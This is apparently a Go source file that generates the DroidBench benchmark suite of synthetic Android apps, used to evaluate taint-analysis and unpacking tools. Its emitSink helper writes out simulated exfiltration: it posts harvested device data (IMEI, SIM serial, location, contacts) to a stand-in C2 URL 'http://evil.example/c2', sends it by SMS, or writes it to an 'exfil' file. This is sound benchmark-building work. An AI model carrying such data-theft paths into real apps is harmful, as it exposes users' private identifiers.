// Package droidbench generates the benchmark suite of the paper's
// evaluation: 134 applications — the 119-sample DroidBench release plus the
// authors' 15 contributed samples covering advanced reflection (5), dynamic
// loading (3), self-modifying code (4) and unreachable taint flows (3).
// Every sample is a real application built through dexgen: ground truth is
// by construction, executions are driven in the runtime substrate, and the
// per-tool detection results of Tables II/III/IV emerge from actually
// analyzing the (original, dumped, or revealed) bytecode.
package droidbench

import (
	"fmt"
	"sort"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dexgen"
)

// Sample is one benchmark application.
type Sample struct {
	Name        string
	Category    string
	Contributed bool
	Leaky       bool // ground truth
	LeakCount   int  // number of ground-truth flows (Table IV granularity)

	build   func() (*apk.APK, error)
	natives map[string]art.NativeFunc
}

// Build constructs the sample APK.
func (s *Sample) Build() (*apk.APK, error) {
	pkg, err := s.build()
	if err != nil {
		return nil, fmt.Errorf("droidbench: build %s: %w", s.Name, err)
	}
	return pkg, nil
}

// InstallNatives registers the sample's JNI functions (self-modifying and
// native-leak samples), if any.
func (s *Sample) InstallNatives(rt *art.Runtime) {
	for key, fn := range s.natives {
		rt.RegisterNative(key, fn)
	}
}

// Natives returns the sample's native registrations keyed by method key.
func (s *Sample) Natives() map[string]art.NativeFunc { return s.natives }

// Suite returns all 134 samples in deterministic order.
func Suite() []*Sample {
	var all []*Sample
	all = append(all, plainSamples()...)
	all = append(all, specialSamples()...)
	all = append(all, contributedSamples()...)
	all = append(all, benignSamples()...)
	sort.Slice(all, func(i, j int) bool { return all[i].Name < all[j].Name })
	return all
}

// ByName returns the named sample, or nil.
func ByName(name string) *Sample {
	for _, s := range Suite() {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// CorpusNames is the pinned golden corpus: samples chosen to cover the
// allocator-relevant shapes of the reveal hot path — plain straight-line
// leaks, loop-heavy methods (tree dedup pressure), branching and switches
// (fall-through repair), reflection (bridge generation), try/catch
// re-anchoring, and self-modifying code (divergence trees and variant
// merge). The byte-identity suites reveal each of them, and the hot-path
// benchmark embeds the list in its report and refuses cross-corpus
// compares, so changing it invalidates every recorded baseline.
var CorpusNames = []string{
	"DirectLeak1",
	"LoopString3",
	"Branching2",
	"SwitchFlow1",
	"Interproc5",
	"CatchFlow1",
	"Reflection3",
	"AdvReflection2",
	"SelfModifying1",
	"SelfModifying2",
}

// Counts returns the suite size and the number of leaky (malware) samples —
// the first two columns of Tables II and III.
func Counts() (total, malware int) {
	for _, s := range Suite() {
		total++
		if s.Leaky {
			malware++
		}
	}
	return total, malware
}

// --- shared generator helpers -----------------------------------------------

// sourceKinds and sinkKinds name the API families used by the generators.
var sourceKinds = []string{"imei", "sim", "location", "ssid", "contacts"}

var sinkKinds = []string{"log", "sms", "http", "file"}

// emitSource loads sensitive data of the given kind into dst. It clobbers
// scratch and scratch+1 and requires `this` to be an Activity.
func emitSource(a *dexgen.Asm, kind string, dst, scratch int32) {
	service := map[string]string{
		"imei": "phone", "sim": "phone", "location": "location",
		"ssid": "wifi", "contacts": "contacts",
	}[kind]
	a.ConstString(scratch, service)
	a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
		"(Ljava/lang/String;)Ljava/lang/Object;", a.This(), scratch)
	a.MoveResultObject(scratch)
	switch kind {
	case "imei":
		a.CheckCast(scratch, "Landroid/telephony/TelephonyManager;")
		a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
			"()Ljava/lang/String;", scratch)
	case "sim":
		a.CheckCast(scratch, "Landroid/telephony/TelephonyManager;")
		a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getSimSerialNumber",
			"()Ljava/lang/String;", scratch)
	case "location":
		a.CheckCast(scratch, "Landroid/location/LocationManager;")
		a.ConstString(scratch+1, "gps")
		a.InvokeVirtual("Landroid/location/LocationManager;", "getLastKnownLocation",
			"(Ljava/lang/String;)Landroid/location/Location;", scratch, scratch+1)
		a.MoveResultObject(scratch)
		a.InvokeVirtual("Landroid/location/Location;", "toString",
			"()Ljava/lang/String;", scratch)
	case "ssid":
		a.CheckCast(scratch, "Landroid/net/wifi/WifiManager;")
		a.InvokeVirtual("Landroid/net/wifi/WifiManager;", "getConnectionInfo",
			"()Landroid/net/wifi/WifiInfo;", scratch)
		a.MoveResultObject(scratch)
		a.InvokeVirtual("Landroid/net/wifi/WifiInfo;", "getSSID",
			"()Ljava/lang/String;", scratch)
	case "contacts":
		a.CheckCast(scratch, "Landroid/content/ContactsReader;")
		a.InvokeVirtual("Landroid/content/ContactsReader;", "query",
			"()Ljava/lang/String;", scratch)
	}
	a.MoveResultObject(dst)
}

// emitSink sends the string in msg to the given sink kind. Scratch
// registers are chosen internally so the message register is never
// clobbered; the passed scratch hint is accepted for readability at call
// sites but ignored. SMS emission uses registers 0..5 (and moves the
// message into that window first), so it must be the last use of those
// registers in the method.
func emitSink(a *dexgen.Asm, kind string, msg, scratch int32) {
	_ = scratch
	s := int32(0)
	if msg == 0 {
		s = 1
	}
	switch kind {
	case "log":
		a.LogLeak("bench", msg, s)
	case "sms":
		a.SendSMS("800-555-0100", msg, 0)
	case "http":
		a.ConstString(s, "http://evil.example/c2")
		a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
			"(Ljava/lang/String;Ljava/lang/String;)V", s, msg)
	case "file":
		a.ConstString(s, "/sdcard/exfil.txt")
		a.InvokeStatic("Ljava/io/FileUtil;", "writeExternal",
			"(Ljava/lang/String;Ljava/lang/String;)V", s, msg)
	}
}

// newActivityApp scaffolds a one-activity program and returns the builder
// pieces. gen fills in the activity class.
func newActivityApp(name string, gen func(p *dexgen.Program, cls *dexgen.Class)) func() (*apk.APK, error) {
	desc := "Lde/droidbench/" + name + ";"
	return func() (*apk.APK, error) {
		p := dexgen.New()
		cls := p.Class(desc, "Landroid/app/Activity;")
		cls.Source(name + ".java")
		cls.Ctor("Landroid/app/Activity;", nil)
		gen(p, cls)
		return p.BuildAPK("de.droidbench."+name, "1.0", desc)
	}
}

// activityDesc returns the descriptor used by newActivityApp.
func activityDesc(name string) string { return "Lde/droidbench/" + name + ";" }
